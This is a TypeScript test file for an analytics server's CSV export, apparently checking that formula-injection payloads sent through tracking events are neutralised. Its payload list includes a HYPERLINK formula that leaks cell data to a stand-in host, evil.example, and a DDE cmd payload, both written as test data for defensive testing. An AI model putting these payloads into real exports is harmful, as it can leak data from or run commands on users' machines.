import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { after, before, test } from 'node:test';
import { startAdminServer } from '../packages/server/src/admin/admin-server.ts';
import { runCli } from '../packages/server/src/cli/main.ts';
import { createLogger } from '../packages/server/src/log.ts';
import type { Site } from '../packages/server/src/store/types.ts';
import { apiGet, createKey } from './api-helpers.ts';
import { readCsv } from './support/csv-reader.ts';
import { postEvent, startTestServer, type TestServer } from './support/test-server.ts';

/**
 * OWASP "CSV Injection" leading characters (plus LF and the full-width signs), each opening a
 * formula a spreadsheet would run, sent by a stranger who only knows the public tracking code.
 */
const payloads = [
  '=1+2',
  '+1+2',
  '-1+2',
  '@SUM(1,2)',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
  "=cmd|' /C calc'!A0",
  '\uFF1D1+2',
  '\uFF20SUM(1,2)',
];

/** The columns a sender controls and the way each payload reaches it. */
const hostileColumns = [
  'event_name',
  'device_type',
  'browser',
  'os',
  'utm_source',
  'utm_medium',
  'utm_campaign',
  'utm_term',
  'utm_content',
  'event_id',
] as const;

let server: TestServer;
let site: Site;
let key: string;

before(async () => {
  server = await startTestServer();
  site = await server.runtime.sites.add('shop.example');
  key = await createKey(server, { siteId: site.id });
  for (const [index, payload] of payloads.entries()) {
    server.clock.advance(1_000);
    const utm = ['source', 'medium', 'campaign', 'term', 'content']
      .map((name) => `utm_${name}=${encodeURIComponent(payload)}`)
      .join('&');
    const response = await postEvent(server, site.trackingCode, {
      event_type: 'custom',
      event_name: payload,
      session_id: `session-${index}-attack`,
      url: `https://shop.example/landing?${utm}`,
      device_type: payload,
      browser: payload,
      os: payload,
      user_agent: 'MyApp-Server/1.0',
      properties: { note: payload },
      event_id: `${payload}#${index}`,
    });
    assert.equal(response.status, 202, JSON.stringify(response.body));
  }
});
after(() => server.stop());

const range = 'from=2026-03-10&to=2026-03-10';

async function exportedCsv(): Promise<string> {
  const response = await apiGet(server, `/export/${site.id}?${range}&format=csv`, key);
  assert.equal(response.status, 200);
  return response.body as string;
}

/** Each hostile row as column → cell, in the order the payloads were sent. */
function rowsByColumn(text: string) {
  const [header, ...rows] = readCsv(text);
  const names = header!.map((cell) => cell.value);
  return rows.map((row) => Object.fromEntries(names.map((name, i) => [name, row[i]!])));
}

test('CSV export: every formula-looking value gets a leading quote, in a quoted cell', async () => {
  const rows = rowsByColumn(await exportedCsv());
  assert.equal(rows.length, payloads.length);
  for (const [index, payload] of payloads.entries()) {
    const row = rows[index]!;
    for (const column of hostileColumns) {
      const expected = column === 'event_id' ? `'${payload}#${index}` : `'${payload}`;
      assert.deepEqual(
        row[column],
        { value: expected, quoted: true },
        `${column} of ${JSON.stringify(payload)}`,
      );
    }
    // Properties are one JSON object: it starts with "{", and the values inside stay exact.
    assert.equal(JSON.parse(row.props!.value).note, payload);
    assert.equal(row.query!.value.startsWith('utm_source='), true);
  }
});

test('CSV export: no cell of any column starts with a formula character', async () => {
  const [header, ...rows] = readCsv(await exportedCsv());
  assert.equal(
    header!.every((cell) => !cell.quoted),
    true,
    'the header line is plain column names',
  );
  const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
  for (const row of rows) {
    assert.equal(row.length, header!.length);
    for (const [i, cell] of row.entries()) {
      assert.equal(triggers.includes(cell.value.charAt(0)), false, `${header![i]!.value}: ${cell.value}`);
      if (cell.value !== '') assert.equal(cell.quoted, true, `${header![i]!.value} is quoted`);
    }
  }
});

test('NDJSON export keeps every value exactly as it was sent', async () => {
  const response = await apiGet(server, `/export/${site.id}?${range}&format=ndjson`, key);
  assert.equal(response.status, 200);
  const lines = (response.body as string)
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
  assert.equal(lines.length, payloads.length);
  for (const [index, payload] of payloads.entries()) {
    const line = lines[index]!;
    for (const column of hostileColumns) {
      assert.equal(line[column], column === 'event_id' ? `${payload}#${index}` : payload, column);
    }
    assert.deepEqual(line.props, { note: payload });
  }
});

test('zenovay export writes the same neutralised CSV as the REST API', async () => {
  const admin = await startAdminServer(server.runtime, createLogger('silent'));
  const outFile = path.join(server.dataDir, 'hostile.csv');
  const stderr = new PassThrough();
  stderr.resume();
  try {
    const args = ['export', '--site', site.id, '--from', '2026-03-10', '--to', '2026-03-10'];
    const code = await runCli(
      [...args, '--format', 'csv', '--out', outFile],
      { ZENOVAY_DATA_DIR: server.dataDir },
      () => undefined,
      {
        stdout: new PassThrough(),
        stderr,
      },
    );
    assert.equal(code, 0);
  } finally {
    await admin.close();
  }
  const viaCli = fs.readFileSync(outFile, 'utf8');
  assert.equal(viaCli, await exportedCsv());
  const rows = rowsByColumn(viaCli);
  assert.deepEqual(
    rows.map((row) => row.event_name!.value),
    payloads.map((payload) => `'${payload}`),
  );
});
